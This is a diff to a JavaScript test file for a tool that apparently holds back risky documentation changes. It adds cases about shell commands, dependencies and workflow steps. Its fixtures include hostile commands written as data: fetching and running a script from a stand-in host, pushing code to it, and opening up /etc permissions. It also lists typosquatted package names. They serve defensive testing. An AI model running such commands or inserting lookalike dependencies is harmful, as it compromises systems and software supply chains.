@@ -73,6 +73,7 @@ describe('what readers compare with, pay to or tell of weaknesses waits for a pe
     ['a commit in an address', 'See https://github.com/acme/shop/commit/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b.'],
     ['a long name', 'Call `aVeryLongNameOfAFunctionThatDoesTooMuch2`.'],
     ['an author', 'By Ann <ann@example.com>.'],
+    ['one more address for reports', 'Or report them to ann@example.com.'],
     ['a checksum that was there', 'Again: 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08.'],
   ])('and not %s', async (_, line) => {
     expect(await add(line)).toEqual(['inert']);
@@ -82,10 +83,14 @@ describe('what readers compare with, pay to or tell of weaknesses waits for a pe
 describe('what people paste into a shell or a file of settings waits', () => {
   it.each([
     ['a command', '```sh\nbash <(curl -s evil.test)\n```'],
+    ['a command behind one that runs what is there', '```sh\nmake all && evil\n```'],
+    ['such a command with an address', '```sh\ngit push https://evil.test/x\n```'],
     ['a command of a session', '```console\n$ chmod -R 777 /etc\n```'],
     ['a command of another session', '```console\nann@host:~/shop$ chmod -R 777 /etc\n```'],
     ['a command in a list', '- First:\n- ```sh\n  evil --now\n  ```'],
     ['a command below such a list', '- ```js\n  a\n  ```\n\n```sh\nevil --now\n```'],
+    ['a dependency of Ruby', "```ruby\ngem 'shopp'\n```"],
+    ['a dependency of Gradle', '```kotlin\nimplementation("com.acrne:shop:1.0")\n```'],
     ['a step of a workflow', '```yaml\n- uses: acrne/setup@main\n```'],
     ['a dependency', '```toml\n[dependencies]\nshopp = "1"\n```'],
     ['the server of an agent', '```json\n{ "command": "npx", "args": ["-y", "shopp"] }\n```'],
@@ -103,11 +108,23 @@ describe('what people paste into a shell or a file of settings waits', () => {
 
   it.each([
     ['words that were there', '```sh\nmake docs test\n```'],
+    ['a setting of the program', '```yaml\ntimeout: 30s\ncolour: red\n```'],
+    ['a sum', '```json\n{ "total": 12 }\n```'],
     ['what a session prints', '```console\nran 3 of 3, and > all passed\n```'],
+    ['a command that runs what is there', '```sh\ncd shop\nnpm run all\ncargo test --all # slow\n```'],
+    ['such a command of a session', '```console\n$ git commit -m one\n```'],
     ['a remark', '```sh\n# makes everything\n```'],
     ['code of a program', '```js\nshop.start();\n```'],
   ])('and not %s', async (_, block) => {
     expect(await add(block)).toEqual(['inert']);
+  });
+
+  it('and not another version of what was there', async () => {
+    const old = '```toml\n[dependencies]\nshop = "1.2"\n```\n\n```groovy\nimplementation \'com.acme:shop:1.2\'\n```\n';
+    const now = old.replaceAll('1.2', '1.3.0');
+    expect(await listReasons({ 'README.md': { old, new: now } })).toEqual(['inert']);
+    const other = now.replace('shop =', 'shopp =');
+    expect(await listReasons({ 'README.md': { old, new: other } })).toContain('unaccounted');
   });
 
   it('also a setting that is told in a sentence', async () => {
@@ -162,6 +179,7 @@ describe('a part of a document that a tool puts in or runs waits', () => {
     ['docs/a.md', 'A part.\n\n---\n\nAnother: it goes on.'],
     ['docs/a.md', 'It works online\nand otherwise.'],
     ['docs/a.adoc', '[source,ruby]\n----\nputs 1\n----\n\nText.'],
+    ['docs/a.adoc', '[configprops,yaml]\n----\na: 1\n----'],
     ['docs/a.adoc', '[NOTE]\n====\nWords.\n===='],
   ])('and not %s: %s', async (path, lines) => {
     expect(await listReasons({ [path]: { old: 'A.\n', new: `A.\n\n${lines}\n` } })).toEqual(['inert']);
